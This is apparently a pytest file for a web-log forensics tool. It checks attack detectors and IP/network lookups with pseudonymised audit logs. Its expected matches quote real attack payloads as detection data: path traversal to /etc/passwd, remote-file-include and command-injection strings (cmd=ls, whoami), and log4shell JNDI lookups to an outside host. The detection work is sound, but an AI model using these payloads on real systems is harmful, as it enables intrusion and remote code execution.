"""Investigations: detectors against real attack samples and a clean sample; ip/net/path/ua/domain."""

from __future__ import annotations

import datetime as dt
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipeline.cli import main
from pipeline.errors import UsageError
from pipeline.investigate import detectors
from pipeline.investigate import investigations as investigate
from pipeline.investigate import session as query
from pipeline.investigate.sandbox import Sandbox
from pipeline.investigate.scope import Scope
from pipeline.privacy import keys
from pipeline.privacy.mask import ClientMasker
from tests.conftest import THIRD_PARTY_LOGS, ingest_paths, store_rows

CROWDSEC = THIRD_PARTY_LOGS / "crowdsec-hub-tests"
BASJES = THIRD_PARTY_LOGS / "basjes-hackers" / "hackers-access.log"


def crowdsec(name: str) -> Path:
    return CROWDSEC / f"{name}__{name}.log"


@pytest.fixture(scope="module")
def attack_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("attacks")
    names = sorted(
        {c.split("/")[1] for d in detectors.DETECTORS for c in d.covers if c.startswith("crowdsec")}
    )
    paths = [crowdsec(n) for n in names if n != "http-bf-wordpress-bf"]
    # That sample is nginx behind syslog ("Sep 15 16:13:46 host nginx[2869]: <combined line>"): strip the prefix.
    bf = tmp / "http-bf-wordpress-bf.log"
    bf.write_text(re.sub(r"(?m)^.*?nginx\[\d+\]: ", "", crowdsec("http-bf-wordpress-bf").read_text()))
    # attack samples carry junk lines on purpose: no reject-rate limit
    report = ingest_paths(tmp / "store", [*paths, bf, BASJES], domain="example.test", max_reject_rate=1.0)
    assert not report.failed and report.rows > 3500
    return tmp / "store"


@pytest.fixture(scope="module")
def con(attack_store: Path) -> Iterator[Sandbox]:
    c = query.connect(attack_store)
    yield c
    c.close()


def hits(con: Sandbox, name: str) -> list[dict[str, object]]:
    inv = investigate.attacks(con, Scope(limit=100_000), [name])
    return [dict(zip(inv.rows.columns, r, strict=True)) for r in inv.rows.rows]


def test_every_detector_is_data_with_a_predicate_that_duckdb_accepts(con: Sandbox) -> None:
    names = [d.name for d in detectors.DETECTORS]
    assert len(set(names)) == len(names) >= 9
    for d in detectors.DETECTORS:
        assert d.description and d.predicate
    inv = investigate.attacks(con, Scope(limit=1))
    assert [r[0] for r in inv.tables[0][1].rows] == names


@pytest.mark.parametrize(
    ("detector", "expected"),
    [
        ("sqli", ["a=information_schema.tables", "a=%20union%20all%20select%20", "a=benchmark%28", "a=%2cnull%2cnull",
                  "a=pg_sleep%28", "a=selectchar%28", "a=md5%28"]),
        ("xss", ["a=%3Cscript", "a=javascript%3A", "a=alert%28", "a=prompt(", "a=<frameset", "a=%3Cimg"]),
        ("path_traversal", ["/%2fetc%2fpasswd", "/%252E%252E%252Ffoo1", "/c:/win.ini",
                            "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh",
                            "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp", "/etc/passwd%3f"]),
        ("webshell", ["/stats.php?vwar_root=http://cirt.net/rfiinc.txt??&cmd=ls",
                      "/?s=index/%5Cthink%5CContainer/invokefunction", "poller_id=;touch%20test.txt",
                      "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=whoami"]),
        ("sensitive_probe", ["/.bash_history", "/.env", "/.git/HEAD", "/.cvsignore"]),
    ],
)  # fmt: skip
def test_detector_finds_the_attacks_of_its_samples(con: Sandbox, detector: str, expected: list[str]) -> None:
    found = [f"{r['path']}{'?' + str(r['query']) if r['query'] else ''}" for r in hits(con, detector)]
    for want in expected:
        assert any(want in f for f in found), (detector, want)


def test_log4shell_in_user_agent_and_referrer(con: Sandbox) -> None:
    rows = hits(con, "log4shell")
    uas = [str(r["user_agent"]) for r in rows]
    assert any(ua.startswith("${jndi:ldap://45.155.205.0/24:12344/Basic/Command/Base64/") for ua in uas), uas
    assert any("${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin" in ua for ua in uas)
    assert any(str(r["referrer"]).startswith("${jndi:") for r in rows)  # the third line: JNDI in the Referer
    assert len(rows) == 3


def test_scanner_user_agents(con: Sandbox) -> None:
    uas = {str(r["user_agent"]) for r in hits(con, "scanner_ua")}
    assert "masscan/1.0 (https://github.com/robertdavidgraham/masscan)" in uas
    assert "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:getinfo)" in uas


def test_login_bruteforce_by_network(con: Sandbox) -> None:
    rows = hits(con, "login_bruteforce")
    nets = {str(r["client_net"]) for r in rows}
    # crowdsec: 9 POSTs to wp-login.php in one second; basjes: a /24 posting to /login_form all morning.
    assert {"81.150.104.0/24", "216.244.81.0/24"} <= nets
    assert all(r["method"] == "POST" for r in rows)
    # one stray POST per network is not brute force
    assert "195.154.46.0/24" not in nets


CLEAN = [
    ("GET", "/", None, 200, 5120),
    ("GET", "/about-us/", None, 200, 8000),
    ("GET", "/blog/2026/01/select-the-right-plan-from-our-list/", None, 200, 20000),
    ("GET", "/search", "q=union+station+hotels&page=2", 200, 9000),
    ("GET", "/products", "id=42&sort=price&order=desc", 200, 12000),
    ("GET", "/static/app.3f9a.css", None, 200, 40000),
    ("GET", "/images/logo.png", None, 304, 0),
    ("GET", "/wp-login.php", None, 200, 4000),
    ("POST", "/wp-login.php", None, 302, 0),
    ("POST", "/contact", None, 200, 1500),
    ("GET", "/downloads/brochure-2026.pdf", None, 200, 5_000_000),
    ("GET", "/docs/how-to-backup-your-site/", None, 200, 15000),
    ("GET", "/feed/", None, 200, 30000),
    ("GET", "/favicon.ico", None, 404, 209),
    ("GET", "/robots.txt", None, 200, 67),
    ("GET", "/api/v1/items", "limit=20&offset=40", 200, 3000),
    ("GET", "/cart", "add=17&qty=2", 200, 7000),
    ("GET", "/account/orders/1234", None, 200, 11000),
    ("GET", "/login", None, 200, 3500),
    ("POST", "/login", None, 302, 0),
    ("GET", "/.well-known/security.txt", None, 200, 300),
    ("GET", "/news/2026/how-we-select-suppliers-and-hex-colours", None, 200, 9000),
]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
]


def test_detectors_stay_quiet_on_a_clean_sample(tmp_path: Path) -> None:
    lines = []
    for i in range(600):
        method, path, q, status, size = CLEAN[i % len(CLEAN)]
        target = path + (f"?{q}" if q else "")
        ts = dt.datetime(2026, 3, 2, 8, 0) + dt.timedelta(seconds=47 * i)
        ip = f"{(192, 198, 203)[i % 3]}.{(0, 51, 0)[i % 3]}.{(2, 100, 113)[i % 3]}.{i % 250 + 1}"
        ref = "https://www.example.com/" if i % 4 else "-"
        lines.append(
            f'{ip} - - [{ts:%d/%b/%Y:%H:%M:%S} +0000] "{method} {target} HTTP/1.1" {status} {size} '
            f'"{ref}" "{BROWSERS[i % 3]}"\n'
        )
    log = tmp_path / "clean.log"
    log.write_text("".join(lines))
    ingest_paths(tmp_path / "store", [log], domain="www.example.com")
    c = query.connect(tmp_path / "store")
    assert c.execute("SELECT count(*) FROM pageviews").rows == [(600,)]
    inv = investigate.attacks(c, Scope())
    assert [r for r in inv.tables[0][1].rows if r[1]] == []
    assert inv.rows.rows == []


def test_sensitive_download_needs_success_and_size(tmp_path: Path) -> None:
    base = '198.51.100.{n} - - [02/Mar/2026:10:00:{n:02d} +0000] "GET {p} HTTP/1.1" {s} {b} "-" "curl/8.0"\n'
    cases = [
        ("/backup/site-2026-03-01.tar.gz", 200, 734_003_200, True),
        ("/db/dump.sql", 200, 52_428_800, True),
        ("/.env", 200, 812, True),
        ("/.git/config", 200, 260, True),
        ("/backup/site.tar.gz", 404, 196, False),  # probing, not a download
        ("/downloads/manual.zip", 200, 20_000, False),  # small archive
        ("/.env", 403, 199, False),
    ]
    log = tmp_path / "dl.log"
    log.write_text("".join(base.format(n=i + 1, p=p, s=s, b=b) for i, (p, s, b, _) in enumerate(cases)))
    ingest_paths(tmp_path / "store", [log])
    found = {(r["path"], r["status"]) for r in hits(query.connect(tmp_path / "store"), "sensitive_download")}
    assert found == {(p, s) for p, s, _, hit in cases if hit}


# --- ip / net / path / ua / domain ---------------------------------------------------------------------

SUSPECT = "203.0.113.77"


@pytest.fixture(scope="module")
def two_months(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, int]:
    """January and February 2026: the suspect, a neighbour in the same /24, and other clients."""
    tmp = tmp_path_factory.mktemp("ip")
    lines, mine = [], 0
    for day in range(1, 60):
        ts = dt.datetime(2026, 1, 1, 12) + dt.timedelta(days=day - 1)
        for ip, path in [(SUSPECT, "/wp-admin/"), ("203.0.113.78", "/"), ("198.51.100.9", "/shop")]:
            if ip == SUSPECT and day % 3:
                continue
            mine += ip == SUSPECT
            lines.append(f'{ip} - - [{ts:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" 200 10 "-" "x"\n')
            ts += dt.timedelta(minutes=1)
    log = tmp / "access.log"
    log.write_text("".join(lines))
    ingest_paths(tmp / "store", [log], domain="shop.example.com")
    return tmp / "store", mine


def keystore_of(store: Path) -> keys.KeyStore:
    return keys.KeyStore(Path(str(store) + "-keys"), "month")


def test_ip_finds_exact_rows_across_two_months(two_months: tuple[Path, int]) -> None:
    store, mine = two_months
    c = query.connect(store)
    inv = investigate.ip(c, Scope(), SUSPECT, keystore_of(store), ClientMasker())
    rows = [dict(zip(inv.rows.columns, r, strict=True)) for r in inv.rows.rows]
    assert len(rows) == mine == 19 and {r["path"] for r in rows} == {"/wp-admin/"}
    assert {str(r["ts"])[:7] for r in rows} == {"2026-01", "2026-02"}
    assert len({r["client_id"] for r in rows}) == 2  # one pseudonym per month, unlinkable across them
    periods = {r[0]: r for r in inv.tables[0][1].rows}
    assert set(periods) == {"2026-01", "2026-02"} and periods["2026-01"][3] + periods["2026-02"][3] == 19
    assert dict(inv.facts)["truncated network"] == "203.0.113.0/24"
    assert SUSPECT not in json.dumps(inv.audit) and inv.audit["network"] == "203.0.113.0/24"
    # --from narrows to February
    feb = investigate.ip(c, Scope(start=dt.date(2026, 2, 1)), SUSPECT, keystore_of(store), ClientMasker())
    assert {str(r[0])[:7] for r in feb.rows.rows} == {"2026-02"}


def test_ip_reports_a_destroyed_key(two_months: tuple[Path, int], tmp_path: Path) -> None:
    store, _ = two_months
    copy = tmp_path / "keys"
    copy.mkdir(mode=0o700)
    for f in Path(str(store) + "-keys").glob("*.key"):  # destroy in a copy: the module store stays intact
        (copy / f.name).write_bytes(f.read_bytes())
    ks = keys.KeyStore(copy, "month")
    assert ks.destroy_before(dt.date(2026, 2, 1)) == ["2026-01"]
    inv = investigate.ip(query.connect(store), Scope(), SUSPECT, ks, ClientMasker())
    assert {str(r[0])[:7] for r in inv.rows.rows} == {"2026-02"}
    jan = next(r for r in inv.tables[0][1].rows if r[0] == "2026-01")
    assert "KEY DESTROYED" in jan[1]
    assert any("key destroyed for 2026-01" in n for n in inv.notes)
    assert inv.audit["destroyed"] == ["2026-01"]


def test_investigate_ip_cli_audits_pseudonyms_not_the_address(two_months: tuple[Path, int]) -> None:
    store, _ = two_months
    result = CliRunner().invoke(main, ["investigate", "ip", SUSPECT, "--store", str(store), "--case", "INC-7",
                                       "--format", "json"])  # fmt: skip
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert len(data["rows"]) == 19 and data["case"] == "INC-7"
    log = (store / "_audit" / "audit.jsonl").read_text()
    entry = json.loads(log.splitlines()[-1])
    assert SUSPECT not in log
    assert entry["params"]["network"] == "203.0.113.0/24" and entry["params"]["periods"] == [
        "2026-01",
        "2026-02",
    ]
    # no pseudonym in the trail: it would link the visitor's months without the keys (found by review)
    ids = {str(r["client_id"]) for r in store_rows(store) if r["client_id"] is not None}
    assert ids and not any(i in log for i in ids)
    assert entry["command"] == "investigate ip" and entry["rows"] == 19


def test_net_containment_any_prefix(two_months: tuple[Path, int]) -> None:
    store, _ = two_months
    c = query.connect(store)
    wide = investigate.net(c, Scope(limit=10_000), "203.0.0.0/16", ClientMasker())
    assert {r[7] for r in wide.rows.rows} == {"203.0.113.0/24"} and not wide.notes
    narrow = investigate.net(c, Scope(limit=10_000), "203.0.113.64/28", ClientMasker())
    assert len(narrow.rows.rows) == len(wide.rows.rows)
    assert any("matched at /24 granularity" in n for n in narrow.notes)
    assert investigate.net(c, Scope(), "198.51.101.0/24", ClientMasker()).rows.rows == []
    assert investigate.net(c, Scope(), "0.0.0.0/0", ClientMasker()).facts[1] == (
        "matching stored networks",
        "2",
    )
    with pytest.raises(Exception, match="not a network"):
        investigate.net(c, Scope(), "203.0.113/99", ClientMasker())


TABLES = "SELECT table_name FROM duckdb_tables() ORDER BY 1"


def test_path_ua_domain(con: Sandbox) -> None:
    tables_before = con.con.sql(TABLES).fetchall()
    env = investigate.path(con, Scope(), "/.env")
    assert [r[3] for r in env.rows.rows] == ["/.env"]
    wp = investigate.path(con, Scope(), "*/wp-login.php")
    assert len(wp.rows.rows) == 9
    # the summary (one scan, one statement): facts and top tables agree with the rows
    facts = dict(wp.facts)
    assert facts["requests"] == "9" and facts["first"] == str(min(r[0] for r in wp.rows.rows))
    top = dict(wp.tables)
    assert sum(r[2] for r in top["top paths"].rows) == 9
    assert {r[0] for r in top["top paths"].rows} == {r[3] for r in wp.rows.rows}
    assert sum(r[2] for r in top["top client networks"].rows) == 9
    assert con.con.sql(TABLES).fetchall() == tables_before  # nothing left behind on the connection
    with pytest.raises(UsageError, match="bad pattern"):
        investigate.path(con, Scope(), "([", regex=True)
    rx = investigate.path(con, Scope(), r"^/(join|login)_form$", regex=True)
    assert len(rx.rows.rows) == 1000 and "only the first 1,000" in rx.notes[0]
    # every top table is exactly what its own query returns, order (ties by key, nulls last) included
    cond = "regexp_matches(path, '^/(join|login)_form$')"
    for name, by in [("top paths", "path, status"), ("top client networks", "client_net, as_org")]:
        expected = con.con.sql(
            f"SELECT {by}, count(*) AS n, min(ts), max(ts) FROM pageviews WHERE {cond} "
            f"GROUP BY ALL ORDER BY n DESC, {by} LIMIT 10"
        ).fetchall()
        assert dict(rx.tables)[name].rows == expected and len(expected) > 1
    days = con.con.sql(
        f"SELECT count(DISTINCT date), count(*), min(ts) FROM pageviews WHERE {cond}"
    ).fetchall()
    facts = dict(rx.facts)
    assert (facts["days with requests"], facts["requests"], facts["first"]) == tuple(
        f"{v:,}" if isinstance(v, int) else str(v) for v in days[0]
    )
    nikto = investigate.ua(con, Scope(), "NIKTO")
    assert len(nikto.rows.rows) == 5  # 2 combined lines, 3 of Traefik's common log
    tl = investigate.domain(
        con, Scope(start=dt.date(2015, 10, 25), end=dt.date(2015, 10, 31)), "example.test", "day"
    )
    assert [str(r[0])[:10] for r in tl.rows.rows][:2] == ["2015-10-25", "2015-10-26"]
    assert sum(r[1] for r in tl.rows.rows) == 3456


def test_investigate_cli_formats_and_case(attack_store: Path) -> None:
    run = CliRunner().invoke
    r = run(main, ["investigate", "path", "/.env", "--store", str(attack_store)])
    assert r.exit_code == 2 and "--case" in r.stderr
    r = run(main, ["investigate", "attacks", "--store", str(attack_store), "--case", "INC-1", "--format", "csv",
                   "--detector", "xss", "--limit", "5"])  # fmt: skip
    assert (
        r.exit_code == 0
        and r.stdout.splitlines()[0].startswith("detector,ts,domain")
        and len(r.stdout.splitlines()) == 6
    )
    r = run(main, ["investigate", "path", "*/wp-login.php", "--store", str(attack_store), "--case", "INC-1"])
    assert r.exit_code == 0 and "-- matching rows" in r.stdout and "(9 rows)" in r.stdout
    r = run(
        main,
        ["investigate", "attacks", "--detector", "nope", "--store", str(attack_store), "--case", "INC-1"],
    )
    assert r.exit_code == 2 and "unknown detector 'nope'" in r.stderr


def test_ip_rows_predicate_keeps_the_period_check_only_for_a_collision() -> None:
    """Rows are fetched by the pseudonyms found on the shown days; a pseudonym seen outside its own
    period on one of those days (a 64-bit collision) brings the per-period check back."""
    from pipeline.investigate.addresses import _exact_rows_match
    from pipeline.investigate.scope import Match

    jan, feb = dt.date(2026, 1, 5), dt.date(2026, 2, 5)
    found = [(jan, 11, 3, None, None), (feb, 22, 2, None, None)]
    m = Match("", ((jan, 3), (feb, 2)))
    clean = _exact_rows_match(Scope(), m, found, found, "PERIOD_CHECK")
    assert "client_id IN (11, 22)" in clean.cond and "PERIOD_CHECK" not in clean.cond
    stray = [*found, (feb, 11, 1, None, None)]  # January's pseudonym on a February day
    assert "PERIOD_CHECK" in _exact_rows_match(Scope(), m, found, stray, "PERIOD_CHECK").cond
    first_only = _exact_rows_match(Scope(limit=2), m, found, stray, "PERIOD_CHECK")  # only January shown
    assert "client_id IN (11)" in first_only.cond and "PERIOD_CHECK" not in first_only.cond


def test_a_scope_from_after_to_is_refused_by_the_library(attack_store: Path) -> None:
    """One rule (rules.check_range), in the library: Python callers and every command get it."""
    with pytest.raises(UsageError, match="--from 2026-03-02 is after --to 2026-03-01"):
        Scope(dt.date(2026, 3, 2), dt.date(2026, 3, 1))
    for args in (["path", "/.env"], ["report", "--output", "r.html"]):
        r = CliRunner().invoke(main, ["investigate", *args, "--store", str(attack_store), "--case", "R-1",
                                      "--from", "2026-03-02", "--to", "2026-03-01"])  # fmt: skip
        assert r.exit_code == 2 and "is after" in r.stderr, r.output
